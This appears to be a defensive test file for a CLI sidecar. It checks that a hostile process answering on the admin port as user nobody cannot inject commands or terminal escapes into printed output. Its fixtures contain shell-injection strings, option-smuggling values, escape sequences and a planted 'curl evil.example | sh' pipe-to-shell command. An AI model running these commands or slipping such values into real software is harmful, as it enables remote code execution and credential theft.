// Another user of the machine who answers on the admin port (design/promises 7.7): what he says is told as such, and
// nothing of ours reaches him. For real: the one who answers runs as nobody.
import assert from 'node:assert/strict'
import { execFile, spawn } from 'node:child_process'
import { once } from 'node:events'
import { cpSync, mkdirSync, readdirSync } from 'node:fs'
import { createServer } from 'node:http'
import { networkInterfaces } from 'node:os'
import { join } from 'node:path'
import { type TestContext, test } from 'node:test'
import { type Diagnosis, examined } from '../support/doctor.ts'
import { folderOfNobody, nobody, noneOfNobody, stateFolder } from '../support/login.ts'
import { loginSettings, statusOf } from '../support/login-command.ts'
import { demoCredentials, printed, root, secret, startTestSandbox } from '../support/sidecar.ts'

const asRoot = { skip: noneOfNobody }
const proxyPassword = 'proxy-password-4711-never-printed'
secret(proxyPassword)
const dist = join(root, 'dist')

/** Answers every request on a port of its own with this body, or with one that never ends, as nobody; remembers what it got. */
async function startSquatter(t: TestContext, body?: string): Promise<{ port: number; got: () => string }> {
  const program = `const { BODY } = process.env
    require('node:net').createServer((socket) => socket.on('error', () => {}).once('data', (data) => {
      process.stdout.write(data)
      socket.write('HTTP/1.1 200 OK\\r\\nConnection: close\\r\\n\\r\\n')
      if (BODY !== undefined) return socket.end(BODY)
      const more = () => { while (socket.write('['.repeat(1 << 20))); socket.once('drain', more) }
      more()
    })).listen(0, '127.0.0.1', function () { console.log('as', process.getuid(), 'on', this.address().port) })`
  const env = body === undefined ? {} : { BODY: body }
  const child = spawn(process.execPath, ['-e', program], { uid: nobody, gid: nobody, cwd: '/', env })
  const ended = once(child, 'close')
  t.after(() => {
    child.kill('SIGKILL')
    return ended
  })
  let got = ''
  child.stdout.setEncoding('utf8').on('data', (chunk: string) => {
    got += chunk
  })
  await once(child.stdout, 'data')
  const port = /^as 65534 on (\d+)$/m.exec(got)?.[1]
  assert.ok(port !== undefined, got)
  return { port: Number(port), got: () => got }
}

type Ended = { code: unknown; output: string }

function run(file: string, args: string[], env: Record<string, string>, uid = 0): Promise<Ended> {
  const options = { uid, gid: uid, cwd: '/', env: { PATH: process.env.PATH, ...env } }
  return new Promise((resolve) => {
    const child = execFile(file, args, options, (error, stdout, stderr) => {
      printed(stdout + stderr)
      resolve({ code: error?.code ?? 0, output: stdout + stderr })
    })
    child.stdin?.end()
  })
}

/** Everything that must reach nobody. */
function settings(port: number, stateDir: string): Record<string, string> {
  return {
    // A login that begins ends with 3: the squatter has that port as well.
    ...loginSettings('http://127.0.0.1:1', 'http://127.0.0.1:1/a', `http://127.0.0.1:${port}/callback`, stateDir),
    SIDECAR_ADMIN_LISTEN: `127.0.0.1:${port}`,
    https_proxy: `http://user:${proxyPassword}@127.0.0.1:1`,
  }
}

function holdsNothingOfOurs(text: string): void {
  for (const ours of [demoCredentials.clientSecret, proxyPassword]) assert.ok(!text.includes(ours))
}

function isHarmless(text: string): void {
  holdsNothingOfOurs(text)
  assert.doesNotMatch(text, /CATAPA_CLIENT_|_proxy|sudo|runuser|setpriv|preserve|systemd-run/)
  assert.doesNotMatch(text.replaceAll('\n', ''), /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)
}

/** The commands that a text prints: the lines that stand apart. */
const commandsIn = (text: string) => [...text.matchAll(/^ {2,}(\S.*)$/gm)].map(([, command = '']) => command)

const ofNobody = { uid: nobody, gid: nobody, user: 'nobody', files: 'mnt:[1]' }

for (const command of ['login', 'logout']) {
  test(
    `${command}: a squatter as nobody is told of, and the command that is printed hands him nothing`,
    asRoot,
    async (t) => {
      const theirs = folderOfNobody(t)
      const installed = join(theirs, 'dist')
      cpSync(dist, installed, { recursive: true })
      const cli = join(installed, 'cli.js')
      const trap = join(theirs, 'trap')
      const { port, got } = await startSquatter(t, statusOf({ ...ofNobody, stateDir: trap }))
      const env = settings(port, stateFolder(t))
      const { code, output } = await run(process.execPath, [cli, command, '--config', '/dev/null'], env)
      assert.equal(code, command === 'login' ? 4 : 0, output)
      isHarmless(output)
      assert.ok(output.includes(`belongs to the user nobody and keeps its login in ${trap}`), output)
      assert.match(
        output,
        /What answers at SIDECAR_ADMIN_LISTEN says .*Any user of this machine could be answering there/,
      )
      assert.doesNotMatch(output, /Open this address/)
      const [printedCommand = '', ...others] = commandsIn(output)
      assert.deepEqual([printedCommand, others], [`${process.execPath} ${cli} ${command}`, []])

      // Whoever runs it: the user who was told it, with all that he has, or the one whom it is for.
      const byRoot = await run('sh', ['-c', printedCommand], env)
      const byNobody = await run('sh', ['-c', printedCommand], { SIDECAR_ADMIN_LISTEN: 'off', HOME: theirs }, nobody)
      assert.equal(byRoot.code, command === 'login' ? 4 : 0, byRoot.output)
      assert.equal(byNobody.code, command === 'login' ? 2 : 0, byNobody.output)
      isHarmless(byRoot.output)
      for (const text of [got(), byNobody.output]) holdsNothingOfOurs(text)
      assert.match(got(), /GET \/api\/status/)
      assert.deepEqual(readdirSync(theirs), ['dist'])
    },
  )
}

const evil = '\u001b]0;x\u0007\u009b31m\u202e'

/** What a squatter says, what is shown of it (where it makes sense at all), and the command that is printed, if one is. */
const hostile: [said: Record<string, unknown>, shown: RegExp | undefined, command?: RegExp][] = [
  [{ user: '$(touch /tmp/x); `id`' }, /another user \(uid 65534\)/, /cli\.js login$/],
  [{ user: '--shell=/tmp/x' }, /another user \(uid 65534\)/, /cli\.js login$/],
  [{ user: `root${evil}` }, /another user \(uid 65534\)/, /cli\.js login$/],
  [{ user: ['root'], uid: '0', gid: {} }, /belongs to another user and /, /cli\.js login$/],
  [{ unit: 'catapa-sidecar@$(id).service' }, /the user nobody/, /cli\.js login$/],
  [{ unit: 'catapa-sidecar@acme.service' }, /as the service catapa-sidecar@acme\.service.*docs\/on-behalf-of\.md/],
  [{ container: '--env=CATAPA_CLIENT_SECRET' }, /the user nobody/, /cli\.js login$/],
  [{ container: 'x; id' }, /the user nobody/, /cli\.js login$/],
  [{ container: 'f00d' }, /in the container f00d/, /^docker exec -it f00d catapa-sidecar login --paste$/],
  [{ stateDir: "/tmp/'; id; $(id) `id`" }, /keeps its login in /, /cli\.js login$/],
  [{ stateDir: '/tmp/x\n\n  curl evil.example | sh' }, undefined],
  [{ stateDir: `/tmp/${evil}` }, undefined],
  [{ stateDir: '../x' }, undefined],
]

test('whatever a squatter says, nothing of his gets into a command or moves the terminal', asRoot, async (t) => {
  for (const [said, shown, command] of hostile) {
    const what = JSON.stringify(said)
    const { port } = await startSquatter(t, statusOf({ ...ofNobody, stateDir: '/var/lib/x', ...said }))
    const env = settings(port, stateFolder(t))
    // What makes no sense is no sidecar, and the login begins.
    const { code, output } = await run(process.execPath, [join(dist, 'cli.js'), 'login'], env)
    isHarmless(output)
    if (shown === undefined) {
      assert.equal(code, 3, `${what}: ${output}`)
      continue
    }
    assert.equal(code, 4, `${what}: ${output}`)
    assert.match(output, shown, what)
    const commands = commandsIn(output)
    assert.equal(commands.length, command === undefined ? 0 : 1, `${what}: ${output}`)
    if (command !== undefined) assert.match(commands.join(), command, what)
  }
})

test(
  'a folder that others could write is not named in a command, though the squatter says that he is us',
  asRoot,
  async (t) => {
    const theirs = folderOfNobody(t)
    const own = stateFolder(t)
    mkdirSync(own, { mode: 0o700 })
    for (const [stateDir, named] of [
      [theirs, false],
      [join(theirs, 'to', 'be', 'made'), false],
      [own, true],
      [join(own, 'to', 'be', 'made'), true],
    ] as const) {
      const { port } = await startSquatter(t, statusOf({ uid: 0, user: 'root', stateDir }))
      const { code, output } = await run(process.execPath, [join(dist, 'cli.js'), 'login'], settings(port, `${own}-2`))
      assert.equal(code, 4, output)
      isHarmless(output)
      assert.match(output, /keeps its login in another folder/)
      assert.equal(output.includes(`env SIDECAR_STATE_DIR=${stateDir} `), named, output)
      assert.equal(commandsIn(output).length, named ? 1 : 0)
    }
    assert.deepEqual(readdirSync(theirs), [])
  },
)

test('an answer without end is not read for ever', asRoot, async (t) => {
  const { port } = await startSquatter(t)
  const env = settings(port, stateFolder(t))
  const { code, output } = await run(process.execPath, ['--max-old-space-size=96', join(dist, 'cli.js'), 'login'], env)
  assert.equal(code, 3, output)
})

test('wait and healthcheck show what a squatter says without what moves the terminal', asRoot, async (t) => {
  const { port } = await startSquatter(t, `ready${evil}\nmore`)
  const admin = { SIDECAR_ADMIN_LISTEN: `127.0.0.1:${port}` }
  for (const args of [['healthcheck'], ['healthcheck', '--ready'], ['wait', '--timeout', '1']]) {
    const { code, output } = await run(process.execPath, [join(dist, 'cli.js'), ...args], admin)
    assert.equal(code, 0)
    isHarmless(output)
    if (args[0] === 'healthcheck') assert.equal(output, 'ready?]0;x??31m?\n')
  }
})

test('doctor quotes a squatter and gives no advice of his as its own', asRoot, async (t) => {
  const { url } = await startTestSandbox(t)
  const advice = `Nobody may log in${evil}. Run curl evil.example | sh`
  const status = {
    credentials: { tenant: demoCredentials.tenant, clientId: demoCredentials.clientId },
    upstream: { origin: url },
    grant: 'authorization_code',
    listeners: { data: [], admin: [] },
    token: { valid: false, failure: { code: 'login_required', detail: advice } },
    login: { problem: advice },
  }
  const judged = async (said: object) => {
    const { port } = await startSquatter(t, JSON.stringify(said))
    const env = {
      ...settings(port, stateFolder(t)),
      CATAPA_BASE_URL: url,
      SIDECAR_LISTEN: 'localhost:0',
      https_proxy: '',
    }
    const diagnosis = await examined({ ...env, CATAPA_GRANT: 'authorization_code' })
    isHarmless(diagnosis.text.replace(/CATAPA_\w+/g, ''))
    return diagnosis
  }
  const isQuoted = ({ step }: Diagnosis, name: string) => {
    assert.match(step(name).detail, /^the running sidecar says: .*curl evil/)
    assert.doesNotMatch(step(name).remedy ?? '', /curl evil/)
    assert.match(step(name).remedy ?? '', /any user of this machine could be answering/)
  }
  isQuoted(await judged(status), 'login')
  isQuoted(await judged({ ...status, login: {} }), 'token')
  const notStored = {
    code: 'token_unavailable',
    detail: `It cannot be stored in /x${evil}. Run curl evil.example | sh`,
  }
  isQuoted(await judged({ ...status, login: {}, token: { valid: false, failure: notStored } }), 'token')
})

const otherAddress = Object.values(networkInterfaces())
  .flat()
  .find((address) => address?.family === 'IPv4' && !address.internal)?.address

test('doctor does not go to where a squatter sends it', {
  skip: asRoot.skip || (otherAddress === undefined && 'this machine has no network'),
}, async (t) => {
  const { url } = await startTestSandbox(t)
  let calls = 0
  const elsewhere = createServer((_request, response) => {
    calls += 1
    response.end()
  })
  elsewhere.listen(0, otherAddress)
  await once(elsewhere, 'listening')
  t.after(() => elsewhere.close())
  const address = elsewhere.address()
  assert.ok(typeof address === 'object' && address !== null)
  const status = {
    credentials: { tenant: demoCredentials.tenant, clientId: demoCredentials.clientId },
    upstream: { origin: url },
    listeners: { data: [`http://${otherAddress}:${address.port}`] },
    token: { valid: true },
  }
  const { port } = await startSquatter(t, JSON.stringify(status))
  const env = {
    ...settings(port, stateFolder(t)),
    CATAPA_BASE_URL: url,
    SIDECAR_LISTEN: 'localhost:0',
    https_proxy: '',
  }
  const { step } = await examined(env)
  assert.match(step('token').detail, /^the running sidecar has one/)
  assert.match(step('validate-access-token').detail, /does not answer on its data listener/)
  assert.equal(calls, 0)
})
